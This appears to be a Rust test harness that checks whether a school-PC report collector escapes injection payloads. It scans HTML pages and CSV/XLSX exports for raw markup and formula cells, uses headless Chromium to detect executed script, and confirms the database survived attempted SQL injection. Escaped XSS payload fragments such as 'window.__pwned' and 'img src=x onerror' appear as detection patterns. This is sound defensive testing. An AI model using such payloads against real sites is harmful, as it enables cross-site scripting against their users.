/// Splits CSV (`;`, RFC 4180 quoting) into cells.
fn csv_cells(text: &str) -> Vec<String> {
    let mut cells = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            (true, '"') => quoted = false,
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ';') | (false, '\n') => cells.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            _ => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

fn check_pages_and_exports(stage: &mut Stage, hosts: &[(i64, String)]) -> anyhow::Result<Neutral> {
    let mut neutral = Neutral::default();
    let (region, school) = (stage.region, stage.school);
    let mut pages = vec![
        format!("/org/{region}"),
        format!("/org/{school}"),
        format!("/school/{school}"),
        format!("/org/{region}/weekly"),
        format!("/org/{school}/weekly"),
        format!("/org/{school}/enrollment"),
        "/catalog".to_string(),
        "/users".to_string(),
        "/audit".to_string(),
        "/tokens".to_string(),
    ];
    let mut exports = Vec::new();
    for format in ["csv", "xlsx"] {
        exports.push(format!("/org/{region}/export/{format}"));
        exports.push(format!("/org/{school}/weekly/export/{format}"));
        for table in ["violations", "silent", "clean"] {
            exports.push(format!("/school/{school}/export/{table}/{format}"));
        }
        for (host, _) in hosts {
            for table in ["findings", "inventory", "timeline"] {
                exports.push(format!("/host/{host}/export/{table}/{format}"));
            }
        }
    }
    for (host, _) in hosts {
        pages.push(format!("/host/{host}"));
    }
    for language in ["en", "ru"] {
        let answer = stage.admin.post_form(
            "/language",
            &[
                ("csrf", &stage.admin_csrf),
                ("language", language),
                ("back", "/"),
            ],
        )?;
        if answer.status >= 400 {
            bail!("switching the language: {}", answer.status);
        }
        for page in &pages {
            let answer = stage.admin.get(page)?;
            if answer.status != 200 {
                bail!("{page} answered {} to the administrator", answer.status);
            }
            neutral.pages += 1;
            let html = answer.text();
            for marker in RAW_HTML_MARKERS {
                if html.contains(marker) {
                    neutral
                        .unneutralized
                        .push(format!("{page}: raw {marker:?} in HTML"));
                }
            }
            neutral.payloads_seen += html.matches("&lt;script&gt;window.__pwned").count() as u64
                + html.matches("&lt;img src=x onerror").count() as u64;
        }
        for export in &exports {
            let answer = stage.admin.get(export)?;
            if answer.status != 200 {
                bail!("{export} answered {} to the administrator", answer.status);
            }
            if export.ends_with("csv") {
                neutral.csv += 1;
                for cell in csv_cells(&answer.text()) {
                    check_cell(&mut neutral, export, &cell);
                }
            } else {
                neutral.xlsx += 1;
                check_xlsx(&mut neutral, export, &answer)?;
            }
        }
    }
    Ok(neutral)
}

fn check_xlsx(neutral: &mut Neutral, source: &str, answer: &Answer) -> anyhow::Result<()> {
    use calamine::{Data, Reader, Xlsx};
    let mut workbook: Xlsx<_> =
        calamine::open_workbook_from_rs(std::io::Cursor::new(answer.body.clone()))
            .with_context(|| format!("{source} is an XLSX workbook"))?;
    for name in workbook.sheet_names() {
        let range = workbook
            .worksheet_range(&name)
            .with_context(|| format!("{source}: a sheet"))?;
        for cell in range.used_cells() {
            if let (_, _, Data::String(text)) = cell {
                check_cell(neutral, source, text);
            }
        }
        let formulas = workbook
            .worksheet_formula(&name)
            .with_context(|| format!("{source}: formulas"))?;
        let count = formulas
            .used_cells()
            .filter(|(_, _, text)| !text.is_empty())
            .count();
        if count > 0 {
            neutral
                .unneutralized
                .push(format!("{source}: {count} formula cells"));
        }
    }
    // Not text of its own: the answer as text must hold no payload as markup either.
    let _ = answer_text(answer);
    Ok(())
}

/// Opens the hostile PC's page in headless Chromium; whether any script ran.
fn browser_check(stage: &Stage, host: Option<i64>) -> anyhow::Result<bool> {
    let host = host.context("no hostile host")?;
    let url = stage.collector.url();
    let browser = crate::browser::Browser::start();
    browser.goto(&format!("{url}/login"));
    browser.fill("#login", "admin");
    browser.fill("#password", web::PASSWORD);
    browser.click("#sign-in");
    browser.wait_for("location.pathname !== '/login'");
    let mut ran = false;
    for page in [format!("/host/{host}"), format!("/school/{}", stage.school)] {
        browser.goto(&format!("{url}{page}"));
        std::thread::sleep(Duration::from_millis(300));
        if browser.alert_text().is_some() {
            eprintln!("hostile: an alert is open on {page}");
            ran = true;
            continue;
        }
        let state = browser.execute(
            "return [typeof window.__pwned, document.title, \
             document.querySelectorAll('[onerror],[onload],img[src=x]').length, \
             document.body.innerText.includes('window.__pwned')];",
        );
        eprintln!("hostile: Chromium on {page}: {state}");
        let pwned =
            state[0] != "undefined" || state[1] == "pwned" || state[2].as_u64().unwrap_or(1) > 0;
        if state[3] != true {
            bail!("the payload is not on {page} at all: the browser check would prove nothing");
        }
        ran |= pwned;
    }
    Ok(ran)
}

/// The tables SQL injection would have dropped or emptied are there and full.
fn database_intact(collector: &Collector) -> bool {
    let Ok(connection) = rusqlite::Connection::open(collector.database()) else {
        return false;
    };
    let count = |table: &str| -> i64 {
        connection
            .query_row(&format!("SELECT COUNT(*) FROM {table}"), [], |row| {
                row.get(0)
            })
            .unwrap_or(-1)
    };
    count("hosts") > 0 && count("reports") > 0 && count("users") >= 2 && count("organizations") >= 2
}
